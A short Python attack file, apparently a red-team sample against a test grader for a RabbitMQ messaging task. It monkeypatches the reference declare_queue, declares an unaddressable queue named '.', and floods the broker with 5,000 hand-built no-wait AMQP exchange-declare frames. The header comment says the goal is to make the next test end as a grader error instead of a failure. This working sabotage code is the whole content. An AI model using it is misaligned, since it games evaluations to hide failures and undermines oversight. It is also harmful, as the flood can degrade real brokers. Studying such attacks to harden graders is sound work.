# Attack, appended to the reference producer: leave the virtual host hard to clear behind the
# test (a queue named ".", which the management API cannot address, and a flood of no-wait
# exchange declarations), hoping that the next test's virtual host is not ready and that test
# ends as a grader error instead of a failure.
import struct

_declare_queue = declare_queue  # noqa: F821 - the reference's


def _short(text):
    data = text.encode()
    return bytes([len(data)]) + data


def declare_queue(channel, queue_name, dead_letter_queue=None):
    _declare_queue(channel, queue_name, dead_letter_queue)
    channel.queue_declare(".", durable=False)
    sock = channel.connection._impl._transport._sock
    frames = []
    for i in range(5000):
        payload = (struct.pack(">HHH", 40, 10, 0) + _short(f"litter-{i}") + _short("fanout")
                   + bytes([0b10000]) + struct.pack(">I", 0))  # no-wait, no arguments
        frames.append(struct.pack(">BHI", 1, channel.channel_number, len(payload)) + payload + b"\xce")
    sock.setblocking(True)
    sock.sendall(b"".join(frames))
    sock.setblocking(False)
